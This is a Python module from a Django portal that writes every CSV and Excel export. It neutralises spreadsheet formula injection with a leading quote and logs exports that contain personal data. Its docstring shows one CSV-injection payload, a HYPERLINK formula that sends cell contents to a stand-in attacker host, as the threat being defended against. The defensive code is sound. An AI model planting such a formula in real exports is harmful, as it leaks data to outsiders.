"""Every CSV and Excel file the portal writes: one place that neutralises formulas.

A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` (and, after a tab or a
carriage return, the same) as a formula: a proposal titled
`=HYPERLINK("http://evil.example/?x="&B7,"Klik")` becomes a live link that leaks the
sheet to whoever opens the export. Following OWASP's advice
(https://owasp.org/www-community/attacks/CSV_Injection) such text is written with a
leading single quote, so it shows as typed; real numbers, Decimals and dates stay typed
values, not text. In Excel files, characters the format forbids (C0 controls) are
dropped instead of failing the whole export.

`tests/core/test_exports.py` checks that no other module writes CSV or Excel.

Being the one export path, this is also where exports containing personal data enter
the access log (UU 27/2022): `personal_data=True` from the caller, or a NIK, phone number
or e-mail address found in a cell (privacy.detect), logs who exported what.
"""

from __future__ import annotations

import csv
import datetime
import io
from collections.abc import Iterable, Sequence
from decimal import Decimal
from xml.sax.saxutils import escape

import openpyxl
from django.http import HttpResponse, StreamingHttpResponse
from django.utils import timezone
from django.utils.http import content_disposition_header
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.styles import Font

from binjai_portal.core.privacy import detect
from binjai_portal.core.privacy.access import access_log_record, current_user

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
# "-" alone is the conventional "no value" of a table and cannot run as a formula.
PLACEHOLDERS = frozenset({"-"})
CSV_TYPE = "text/csv; charset=utf-8"
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
_SHEET_TITLE_FORBIDDEN = str.maketrans({c: " " for c in "[]:*?/\\"})


def pdf_text(value) -> str:
    """Text for a reportlab Paragraph (its mini-markup): the standard library's XML
    escaping, line breaks kept as <br/>."""
    return escape(str(value)).replace("\n", "<br/>")


def neutralise_text(text: str) -> str:
    """Text as a spreadsheet shows it, never as a formula."""
    if text[:1] in FORMULA_START and text not in PLACEHOLDERS:
        return "'" + text
    return text


def safe_value(value):
    """A cell value: numbers and dates unchanged, everything else neutralised text."""
    if value is None or isinstance(value, (bool, int, float, Decimal)):
        return value
    if isinstance(value, datetime.datetime):
        # Spreadsheets have no time zones: write the portal's local time.
        return timezone.localtime(value).replace(tzinfo=None) if timezone.is_aware(value) else value
    if isinstance(value, (datetime.date, datetime.time)):
        return value
    return neutralise_text(str(value))


# ---------------------------------------------------------------- CSV


class _Echo:
    def write(self, value):
        return value


def csv_lines(rows: Iterable[Sequence], *, header: Sequence | None = None):
    """Encoded lines of a CSV file (for streaming), each cell passed through safe_value."""
    writer = csv.writer(_Echo())
    if header is not None:
        yield writer.writerow([safe_value(c) for c in header])
    for row in rows:
        yield writer.writerow(["" if v is None else safe_value(v) for v in row])


def export_logged(*, filename: str, subject_ids: Iterable[int] = ()) -> None:
    """An export with personal data, by the request's user, into the access log: one row
    per known subject (so they see it), or one row naming only the file."""
    user = current_user()
    if user is None or not getattr(user, "is_authenticated", False):
        return
    record = f"export:{filename}"
    ids = list(dict.fromkeys(subject_ids))
    for subject_id in ids or [None]:
        access_log_record(viewer=user, kind="export", record=record, subject_id=subject_id)


def _watched(lines, *, filename: str, personal: bool, subject_ids):
    """Pass CSV lines through; when the stream ends, log it if it carried personal data."""
    found = personal
    for line in lines:
        if not found and detect.contains(line):
            found = True
        yield line
    if found:
        export_logged(filename=filename, subject_ids=subject_ids)


def csv_response(
    rows: Iterable[Sequence],
    *,
    filename: str,
    header: Sequence | None = None,
    stream: bool = False,
    bom: bool = True,
    personal_data: bool = False,
    subject_ids: Iterable[int] = (),
) -> HttpResponse:
    """A CSV download. `bom` lets Excel recognise UTF-8; `stream` for large tables.
    `personal_data`: the caller knows the file holds personal data (names) to log."""
    lines = _watched(
        csv_lines(rows, header=header),
        filename=filename,
        personal=personal_data,
        subject_ids=subject_ids,
    )
    if bom:
        lines = _with_prefix("\ufeff", lines)
    if stream:
        response = StreamingHttpResponse(lines, content_type=CSV_TYPE)
    else:
        response = HttpResponse("".join(lines), content_type=CSV_TYPE)
    response["Content-Disposition"] = content_disposition_header(True, filename)
    return response


def _with_prefix(prefix, lines):
    yield prefix
    yield from lines


# ---------------------------------------------------------------- Excel


class Sheet:
    """One worksheet; rows are appended through safe_value."""

    def __init__(self, worksheet, book=None):
        self._ws = worksheet
        self._book = book

    @property
    def row_count(self) -> int:
        return self._ws.max_row

    def append(
        self,
        values: Sequence = (),
        *,
        bold: bool = False,
        size: float | None = None,
        number_formats: dict[int, str] | None = None,
    ) -> None:
        """Append a row. number_formats maps 1-based columns to an Excel number format."""
        cells = [_xlsx_value(v) for v in values]
        if self._book is not None and not self._book.personal_data:
            self._book.personal_data = any(isinstance(c, str) and detect.contains(c) for c in cells)
        self._ws.append(cells)
        row = self._ws.max_row
        if bold or size:
            font = Font(bold=bold, size=size) if size else Font(bold=bold)
            for col in range(1, len(cells) + 1):
                self._ws.cell(row=row, column=col).font = font
        for col, fmt in (number_formats or {}).items():
            self._ws.cell(row=row, column=col).number_format = fmt

    def set_font(
        self, row: int, column: int, *, bold: bool = True, size: float | None = None
    ) -> None:
        self._ws.cell(row=row, column=column).font = (
            Font(bold=bold, size=size) if size else Font(bold=bold)
        )

    def widths(self, *widths: float) -> None:
        from openpyxl.utils import get_column_letter

        for col, width in enumerate(widths, start=1):
            self._ws.column_dimensions[get_column_letter(col)].width = width


def _xlsx_value(value):
    value = safe_value(value)
    if isinstance(value, str):
        value = ILLEGAL_CHARACTERS_RE.sub("", value)
    return value


class Book:
    """An Excel workbook built sheet by sheet."""

    def __init__(self, *, personal_data: bool = False):
        self._wb = openpyxl.Workbook()
        self._fresh = True
        self.personal_data = personal_data  # set by a caller, or by a cell that has some

    def sheet(self, title: str) -> Sheet:
        title = (
            ILLEGAL_CHARACTERS_RE.sub("", str(title))
            .translate(_SHEET_TITLE_FORBIDDEN)
            .strip("'")[:31]
            .strip()
            or "data"
        )
        if self._fresh:
            ws, self._fresh = self._wb.active, False
            ws.title = title
        else:
            ws = self._wb.create_sheet(title)
        return Sheet(ws, self)

    def to_bytes(self) -> bytes:
        out = io.BytesIO()
        self._wb.save(out)
        return out.getvalue()


def xlsx_response(
    book: Book | bytes,
    *,
    filename: str,
    personal_data: bool = False,
    subject_ids: Iterable[int] = (),
) -> HttpResponse:
    content = book.to_bytes() if isinstance(book, Book) else book
    if personal_data or (isinstance(book, Book) and book.personal_data):
        export_logged(filename=filename, subject_ids=subject_ids)
    response = HttpResponse(content, content_type=XLSX_TYPE)
    response["Content-Disposition"] = content_disposition_header(True, filename)
    return response


def table_book(columns: Sequence, rows: Iterable[Sequence], *, title: str) -> Book:
    """A one-sheet workbook: a bold header row, then the rows."""
    book = Book()
    sheet = book.sheet(title)
    sheet.append([str(c) for c in columns], bold=True)
    for row in rows:
        sheet.append(row)
    return book
